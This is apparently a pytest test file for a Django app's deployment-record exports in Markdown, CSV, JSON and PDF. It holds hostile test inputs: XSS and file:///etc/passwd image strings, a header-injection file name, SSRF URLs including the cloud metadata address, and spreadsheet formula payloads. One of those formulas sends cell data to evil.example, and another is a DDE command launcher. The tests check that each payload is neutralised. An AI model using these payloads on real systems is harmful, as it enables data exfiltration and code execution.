"""Exports of one deployment: Markdown, CSV, JSON and PDF, checked against the database."""

import csv
import io
import json
import re
import sys
import zlib

import pytest
from django.urls import reverse
from django.utils import timezone

from deploychecks.audit.models import AuditEvent
from deploychecks.checklists.models import TemplateRevision
from deploychecks.checklists.services import load_parsed
from deploychecks.history.exports_pdf import url_fetcher
from deploychecks.runs.models import Deployment, GateOverride, ItemNote, RunItem, RunSubCheck
from deploychecks.runs.services import (
    add_item_note,
    change_status,
    create_deployment,
    delete_item_note,
    edit_item_note,
)
from tests.history.worked import client_for, item, tick

pytestmark = pytest.mark.django_db
FORMATS = ("md", "csv", "json", "pdf")
HOSTILE = '<script>alert(1)</script><img src="file:///etc/passwd" onerror="alert(2)">'


def _url(deployment, fmt):
    return reverse("history:export", args=[deployment.pk, fmt])


def _get(user, deployment, fmt):
    response = client_for(user).get(_url(deployment, fmt))
    assert response.status_code == 200, response.status_code
    return response


def _json(user, deployment) -> dict:
    return json.loads(_get(user, deployment, "json").content)


# --- Access ---------------------------------------------------------------------------


def test_participants_and_managers_may_download_every_format(worked, viewer, manager):
    for user in (viewer, manager):
        for fmt in FORMATS:
            assert client_for(user).get(_url(worked, fmt)).status_code == 200, (user, fmt)


def test_outsider_gets_404_for_every_format(worked, outsider):
    for fmt in FORMATS:
        response = client_for(outsider).get(_url(worked, fmt))
        assert response.status_code == 404, fmt
        assert b"Autumn release" not in response.content


def test_anonymous_visitor_is_sent_to_log_in(worked, client):
    for fmt in FORMATS:
        response = client.get(_url(worked, fmt))
        assert response.status_code == 302 and response["Location"].startswith(reverse("login"))


def test_unknown_format_is_404(worked, viewer):
    for fmt in ("xml", "html", "MD", "pdf2"):
        assert client_for(viewer).get(_url(worked, fmt)).status_code == 404, fmt


def test_downloads_are_attachments_with_a_safe_file_name(record_deployment, viewer):
    record_deployment.service = 'pay ments/"evil";\r\nX-Injected: 1'
    record_deployment.version = "../../2.0"
    record_deployment.save(update_fields=["service", "version"])
    for fmt, content_type in (
        ("md", "text/markdown"),
        ("csv", "text/csv"),
        ("json", "application/json"),
        ("pdf", "application/pdf"),
    ):
        response = _get(viewer, record_deployment, fmt)
        assert response["Content-Type"].startswith(content_type)
        assert response["Content-Disposition"] == (
            f'attachment; filename="pay-ments-evil-X-Injected-1-2.0-{record_deployment.pk}.{fmt}"'
        )
        assert "X-Injected" not in response.headers


def test_default_file_name_is_service_version_and_id(worked, viewer):
    response = _get(viewer, worked, "csv")
    assert response["Content-Disposition"] == (
        f'attachment; filename="billing-api-3.1.0-{worked.pk}.csv"'
    )
    assert "no-store" in response["Cache-Control"]


# --- Markdown -------------------------------------------------------------------------


def test_markdown_is_the_checklist_as_ticked_with_who_and_when(worked, viewer):
    md = _get(viewer, worked, "md").content.decode()
    backup = item(worked, "Backup created")
    restore = RunSubCheck.objects.get(item=backup, title="Restore tested")
    assert md.startswith("# History test release\n")
    assert "Autumn release — billing-api 3.0.2 → 3.1.0 (production)" in md
    assert "- [x] **Backup created** Full database backup\n" in md
    assert "  - [x] Restore tested\n  - [ ] Checksum recorded\n" in md
    assert f"  > ✓ Done by erin at {backup.changed_at:%Y-%m-%d %H:%M:%S} UTC\n" in md
    assert (
        f"  > Sub-check “Restore tested” ticked by erin at "
        f"{restore.changed_at:%Y-%m-%d %H:%M:%S} UTC\n"
    ) in md
    assert "  > Note by erin at " in md and ": Backup took 40 minutes\n" in md
    assert (
        "- [ ] **Freeze announced** (optional)\n  > N/A: No freeze for patches (marked by "
        "Sam Second" in md
    )
    assert "1. **Migrate** (10 min)\n   - [x] **Run migrations**\n" in md
    assert ": Ran migrations by hand: the job runner was down" in md
    assert "- [ ] **Deploy the release**\n" in md
    assert "- [x] **QA Lead**: approved by quinn" in md
    assert "- [ ] **Engineering Manager**: no valid sign-off" in md


def test_markdown_reimports_as_the_same_template(worked, viewer, admin_user, small_revision):
    md = _get(viewer, worked, "md").content.decode()

    # The real import path: the import page, saving as a new revision of the template.
    response = client_for(admin_user).post(
        reverse("checklists:import"),
        {"markdown_text": md, "template": small_revision.template_id, "action": "save"},
    )

    assert response.status_code == 302, response.content.decode()[:2000]
    reimported = load_parsed(
        TemplateRevision.objects.get(template=small_revision.template, number=2)
    )
    original = load_parsed(small_revision)
    assert [(p.title, p.timing_label) for p in reimported.phases] == [
        (p.title, p.timing_label) for p in original.phases
    ]
    assert [[(s.title, s.timing_label) for s in p.sections] for p in reimported.phases] == [
        [(s.title, s.timing_label) for s in p.sections] for p in original.phases
    ]
    assert [(s.number, s.title, s.minutes) for s in reimported.steps()] == [
        (s.number, s.title, s.minutes) for s in original.steps()
    ]
    assert [
        (i.title, i.summary, i.required, [s.title for s in i.subchecks]) for i in reimported.items()
    ] == [
        (i.title, i.summary, i.required, [s.title for s in i.subchecks]) for i in original.items()
    ]
    # Details keep the template's text; the run's annotations follow it.
    for new, old in zip(reimported.items(), original.items(), strict=True):
        assert new.details.startswith(old.details)
    assert reimported.signoff_roles == original.signoff_roles
    assert [(c.role, c.person) for c in reimported.contacts] == [("DevOps lead", "Dana")]


def test_markdown_annotations_cannot_inject_structure_or_html(
    record_deployment, engineer, lead, viewer
):
    change_status(deployment_id=record_deployment.pk, to="in_progress", user=lead)
    add_item_note(
        deployment_id=record_deployment.pk,
        user=engineer,
        item_id=item(record_deployment, "Backup created").pk,
        body=f"first line\n- [ ] **Injected item**\n## Injected phase\n{HOSTILE}",
    )

    md = _get(viewer, record_deployment, "md").content.decode()

    assert "\n- [ ] **Injected item**" not in md and "\n## Injected phase" not in md
    assert "<script>" not in md and "&lt;script>alert(1)&lt;/script>" in md
    assert (
        "> Note by erin at " in md
        and ": first line - \\[ \\] **Injected item** ## Injected phase" in md
    )


# --- CSV ------------------------------------------------------------------------------


def _csv_rows(user, deployment) -> list[dict]:
    text = _get(user, deployment, "csv").content.decode()
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_has_one_row_per_item_and_sub_check_matching_the_database(worked, viewer):
    rows = _csv_rows(viewer, worked)

    items = list(RunItem.objects.filter(deployment=worked).order_by("phase__position", "position"))
    subs = RunSubCheck.objects.filter(item__deployment=worked)
    assert len(rows) == len(items) + subs.count()
    item_rows = [r for r in rows if not r["subcheck"]]
    assert [r["item"] for r in item_rows] == [i.title for i in items]
    for row, it in zip(item_rows, items, strict=True):
        assert row["state"] == it.state
        assert row["changed_by"] == it.changed_by_name
        assert row["changed_at"] == (it.changed_at.isoformat() if it.changed_at else "")
        assert row["na_reason"] == it.na_reason
        assert row["note_count"] == str(it.notes.count())
    backup = next(r for r in item_rows if r["item"] == "Backup created")
    assert backup["phase"] == "Phase 1: Preparation" and backup["section"] == ""
    assert backup["notes"].startswith("Note by erin at ")
    assert backup["notes"].endswith(": Backup took 40 minutes")
    migrate = next(r for r in item_rows if r["item"] == "Run migrations")
    assert (migrate["section"], migrate["step"]) == ("Database", "1. Migrate")
    restore = next(r for r in rows if r["subcheck"] == "Restore tested")
    sub = subs.get(title="Restore tested")
    assert (restore["item"], restore["state"], restore["changed_by"], restore["changed_at"]) == (
        "Backup created",
        "done",
        "erin",
        sub.changed_at.isoformat(),
    )
    checksum = next(r for r in rows if r["subcheck"] == "Checksum recorded")
    assert (checksum["state"], checksum["changed_by"]) == ("open", "")


FORMULA_TEMPLATE = """# Formulas

## =Phase

- [ ] **=HYPERLINK("http://evil.example/?"&A1,"click")** summary
  - [ ] @SUM(A1:A9)
- [ ] **+1+2**
- [ ] **-cmd|' /C calc'!A0**
"""


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_defused(db, lead, engineer, viewer):
    from deploychecks.checklists.parser import parse_checklist
    from deploychecks.checklists.services import save_template

    revision = save_template(parse_checklist(FORMULA_TEMPLATE), source=FORMULA_TEMPLATE)
    deployment = create_deployment(
        revision,
        user=lead,
        release_name="Formulas",
        version="1",
        service="svc",
        lead=lead,
        engineers=[engineer],
        viewers=[viewer],
    )
    change_status(deployment_id=deployment.pk, to="in_progress", user=lead)
    tick(deployment, "+1+2", engineer, state="na", reason="=1+1")

    rows = _csv_rows(viewer, deployment)

    assert rows[0]["phase"] == "'=Phase"
    assert rows[0]["item"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert rows[1]["subcheck"] == "'@SUM(A1:A9)"
    assert rows[2]["item"] == "'+1+2" and rows[2]["na_reason"] == "'=1+1"
    assert rows[3]["item"] == "'-cmd|' /C calc'!A0"
    for row in rows:
        assert not any(v.startswith(("=", "+", "-", "@")) for v in row.values())


# --- JSON -----------------------------------------------------------------------------


def test_json_holds_the_complete_record_as_in_the_database(worked, viewer):
    data = _json(viewer, worked)

    assert data["schema_version"] == 2
    d = data["deployment"]
    assert (
        d["id"],
        d["release_name"],
        d["version"],
        d["previous_version"],
        d["service"],
        d["environment"],
        d["status"],
    ) == (worked.pk, "Autumn release", "3.1.0", "3.0.2", "billing-api", "production", "monitoring")
    assert d["lead"] == {"id": worked.lead_id, "username": "lena", "name": "Lena Lead"}
    assert d["started_at"] == worked.started_at.isoformat()
    assert d["go_live_at"] == worked.go_live_at.isoformat()
    assert d["counts"] == {"total": 7, "done": 3, "na": 1, "open": 3}
    json_items = [i for p in data["phases"] for i in p["items"]]
    db_items = RunItem.objects.filter(deployment=worked).order_by("phase__position", "position")
    assert [
        (i["id"], i["title"], i["state"], i["changed_by"], i["na_reason"]) for i in json_items
    ] == [(i.pk, i.title, i.state, i.changed_by_name or None, i.na_reason) for i in db_items]
    backup = next(i for i in json_items if i["title"] == "Backup created")
    assert [(s["title"], s["done"], s["changed_by"]) for s in backup["subchecks"]] == [
        ("Restore tested", True, "erin"),
        ("Checksum recorded", False, None),
    ]
    assert [(n["kind"], n["author"], n["body"]) for n in backup["notes"]] == [
        ("note", "erin", "Backup took 40 minutes")
    ]
    migrate = next(i for i in json_items if i["title"] == "Run migrations")
    phase1 = data["phases"][0]
    step = next(s for s in phase1["steps"] if s["id"] == migrate["step_id"])
    section = next(s for s in phase1["sections"] if s["id"] == migrate["section_id"])
    assert (step["title"], step["minutes"], section["title"]) == ("Migrate", 10, "Database")
    assert [(s["role"], s["signer"], s["status"]) for s in data["signoffs"]] == [
        ("QA Lead", "quinn", "stale"),
        ("QA Lead", "quinn", "valid"),
    ]
    assert data["signoff_roles"] == ["QA Lead", "Engineering Manager"]
    error_rate = next(s for s in data["signals"] if s["name"] == "Error rate")
    assert [(r["value"], r["recorded_by"], r["note"]) for r in error_rate["readings"]] == [
        (2.5, "erin", "spike after deploy")
    ]
    assert data["verdict_changes"] and data["verdict_changes"][0]["from"] == "none"
    assert len(data["reminders"]) == worked.reminders.count() > 0
    assert data["rollback"] is None


def test_json_notes_carry_their_thread_edits_and_tombstones(worked, viewer, engineer, lead):
    backup = item(worked, "Backup created")
    first = ItemNote.objects.get(item=backup)
    reply = add_item_note(
        deployment_id=worked.pk,
        item_id=backup.pk,
        body="Was that the full backup?",
        user=lead,
        reply_to_id=first.pk,
    ).obj
    edit_item_note(
        deployment_id=worked.pk, note_id=first.pk, body="Backup took 45 minutes", user=engineer
    )
    delete_item_note(deployment_id=worked.pk, note_id=reply.pk, user=lead)
    first.refresh_from_db()
    reply.refresh_from_db()

    notes = next(
        i for p in _json(viewer, worked)["phases"] for i in p["items"] if i["id"] == backup.pk
    )["notes"]

    assert notes == [
        {
            "id": first.pk,
            "kind": "note",
            "author": "erin",
            "body": "Backup took 45 minutes",
            "created_at": first.created_at.isoformat(),
            "reply_to": None,
            "edited_at": first.edited_at.isoformat(),
            "deleted_at": None,
            "deleted_by": None,
        },
        {
            "id": reply.pk,
            "kind": "note",
            "author": "Lena Lead",
            "body": "",  # a tombstone keeps no text
            "created_at": reply.created_at.isoformat(),
            "reply_to": first.pk,
            "edited_at": None,
            "deleted_at": reply.deleted_at.isoformat(),
            "deleted_by": "Lena Lead",
        },
    ]
    assert first.edited_at is not None and reply.deleted_at is not None


def test_json_audit_events_carry_their_hashes_and_the_chain_status(worked, viewer):
    data = _json(viewer, worked)["audit"]

    events = list(AuditEvent.objects.filter(deployment=worked).order_by("id"))
    assert data["verified"] is True and data["event_count"] == len(events)
    assert [
        (e["id"], e["seq"], e["action"], e["hash"], e["prev_hash"], e["actor"])
        for e in data["events"]
    ] == [(e.pk, e.seq, e.action, e.hash, e.prev_hash, e.actor_name or None) for e in events]
    assert "client_ip" not in data["events"][0]


def _documented_fields(markdown: str) -> dict[str, set[str]]:
    """docs/export-schema.md: each '### `path`' heading's table of fields."""
    fields: dict[str, set[str]] = {}
    current = None
    for line in markdown.splitlines():
        heading = re.match(r"^### `([^`]+)`", line)
        if heading:
            current = fields.setdefault(heading.group(1), set())
        elif current is not None and (row := re.match(r"^\| `([a-z0-9_]+)` \|", line)):
            current.add(row.group(1))
    return fields


def _at(data, path: str):
    """The first object at a documented path like 'phases[].items[].notes[]'."""
    node = data
    for part in path.split("."):
        if part == "(root)":
            continue
        key, many = part.removesuffix("[]"), part.endswith("[]")
        node = node[key] if key else node
        if many:
            node = node[0]
    return node


def test_json_matches_its_documented_schema(worked, viewer, engineer, settings):
    from deploychecks.evidence.services import add_link
    from deploychecks.gonogo.rollback import start_rollback

    first = worked.items.order_by("phase__position", "position").first()
    add_link(deployment_id=worked.pk, item_id=first.pk, url="https://ci.example/1", user=engineer)

    start_rollback(deployment_id=worked.pk, reason="Errors", user=engineer)
    change_status(deployment_id=worked.pk, to="rolled_back", user=worked.lead)
    # Never together in real life (an override completes), but every object is documented.
    GateOverride.objects.create(
        deployment=worked,
        to_status="completed",
        by_name="root",
        reason="CTO approved",
        conditions=[{"key": "signoff:1", "kind": "signoff", "label": "QA Lead"}],
        created_at=timezone.now(),
    )
    # Rolled back: its retrospective opened; published with a follow-up, it is exported.
    from deploychecks.retros import services as retros

    retros.add_follow_up(
        deployment_id=worked.pk,
        user=worked.lead,
        title="Alert sooner",
        owner_id=worked.lead_id,
        due_date="2027-01-15",
    )
    retros.publish(deployment_id=worked.pk, user=worked.lead)
    data = _json(viewer, worked)
    docs = (settings.BASE_DIR / "docs" / "export-schema.md").read_text()

    documented = _documented_fields(docs)

    assert len(documented) >= 10
    for path, names in documented.items():
        node = _at(data, path)
        assert set(node) == names, path


# --- PDF ------------------------------------------------------------------------------


def pdf_text(data: bytes) -> str:
    """The text of a WeasyPrint PDF, without a PDF library.

    Text is drawn as glyph ids (hex strings in TJ arrays); each embedded font's
    ToUnicode CMap maps them back to characters. The fonts are DejaVu faces,
    which share glyph ids, so one merged map is enough here.
    """
    streams = []
    # Each stream's bytes are taken by its /Length: a compressed stream may itself
    # end in a byte that a line-ending pattern would eat (it did, 1 run in ~200).
    for match in re.finditer(rb"<<([^<>]*?/Length (\d+)[^<>]*?)>>\s*stream\r?\n", data, re.S):
        body = data[match.end() : match.end() + int(match.group(2))]
        streams.append(zlib.decompress(body) if b"FlateDecode" in match.group(1) else body)
    glyphs: dict[int, str] = {}
    for stream in (s for s in streams if b"begincmap" in s):
        for block in re.findall(rb"beginbfchar(.*?)endbfchar", stream, re.S):
            for src, dst in re.findall(rb"<([0-9a-fA-F]+)>\s*<([0-9a-fA-F]+)>", block):
                glyphs.setdefault(int(src, 16), bytes.fromhex(dst.decode()).decode("utf-16-be"))
        for block in re.findall(rb"beginbfrange(.*?)endbfrange", stream, re.S):
            for lo, hi, dst in re.findall(
                rb"<([0-9a-fA-F]+)>\s*<([0-9a-fA-F]+)>\s*<([0-9a-fA-F]+)>", block
            ):
                for offset in range(int(hi, 16) - int(lo, 16) + 1):
                    glyphs.setdefault(int(lo, 16) + offset, chr(int(dst, 16) + offset))
    lines = []
    for stream in streams:
        for array in re.findall(rb"\[(.*?)\]\s*TJ", stream, re.S):
            hexes = b"".join(re.findall(rb"<([0-9a-fA-F]+)>", array)).decode()
            lines.append(
                "".join(glyphs.get(int(hexes[i : i + 4], 16), "?") for i in range(0, len(hexes), 4))
            )
    return "\n".join(lines)


def test_pdf_is_a_pdf_with_the_release_outcome_notes_and_na_items(worked, viewer):
    response = _get(viewer, worked, "pdf")

    assert response.content.startswith(b"%PDF-")
    text = pdf_text(response.content)
    assert "Autumn release" in text
    assert "Monitoring" in text
    assert "Backup took 40 minutes" in text
    assert "Ran migrations by hand: the job runner was down" in text
    assert "No freeze for patches" in text
    assert "quinn" in text and "QA Lead" in text


def test_pdf_prints_hostile_text_as_text_and_fetches_nothing(
    record_deployment, engineer, lead, viewer
):
    change_status(deployment_id=record_deployment.pk, to="in_progress", user=lead)
    add_item_note(
        deployment_id=record_deployment.pk,
        body=HOSTILE,
        user=engineer,
        item_id=item(record_deployment, "Backup created").pk,
    )

    content = _get(viewer, record_deployment, "pdf").content

    assert content.startswith(b"%PDF-")
    assert '<img src="file:///etc/passwd"' in pdf_text(content)  # shown, not rendered
    assert b"/Subtype /Image" not in content and b"root:x:0:0" not in content


def test_pdf_url_fetcher_refuses_everything_but_data_uris():
    fetcher = url_fetcher()
    for url in (
        "file:///etc/passwd",
        "http://169.254.169.254/latest/meta-data/",
        "https://example.com/x.png",
        "ftp://example.com/x",
    ):
        with pytest.raises(ValueError):
            fetcher(url)
    assert fetcher("data:text/plain;base64,aGk=").read() == b"hi"


def test_markdown_csv_and_json_keep_hostile_text_inert(record_deployment, engineer, lead, viewer):
    change_status(deployment_id=record_deployment.pk, to="in_progress", user=lead)
    add_item_note(
        deployment_id=record_deployment.pk,
        body=HOSTILE,
        user=engineer,
        item_id=item(record_deployment, "Backup created").pk,
    )

    md = _get(viewer, record_deployment, "md").content.decode()
    data = _json(viewer, record_deployment)
    rows = _csv_rows(viewer, record_deployment)

    assert "<script>" not in md and "<img" not in md
    # The snapshot's template name is user text too: one line, no HTML.
    Deployment.objects.filter(pk=record_deployment.pk).update(
        template_name="Tpl <img src=x onerror=alert(1)>\n## Injected phase"
    )
    titled = _get(viewer, record_deployment, "md").content.decode()
    assert titled.startswith("# Tpl &lt;img src=x onerror=alert(1)> ## Injected phase\n")
    backup = next(i for p in data["phases"] for i in p["items"] if i["title"] == "Backup created")
    assert backup["notes"][0]["body"] == HOSTILE  # data, exactly as written
    assert _get(viewer, record_deployment, "json")["Content-Type"] == "application/json"
    assert rows[0]["notes"].endswith(HOSTILE)  # a CSV cell is never markup


def test_pdf_without_weasyprint_libraries_answers_503_with_what_to_install(
    record_deployment, viewer, monkeypatch
):
    # As on a machine without pango: importing WeasyPrint fails.
    monkeypatch.setitem(sys.modules, "weasyprint", None)

    response = client_for(viewer).get(_url(record_deployment, "pdf"))

    assert response.status_code == 503
    assert "libpango-1.0-0" in response.content.decode()
    assert _get(viewer, record_deployment, "md").status_code == 200
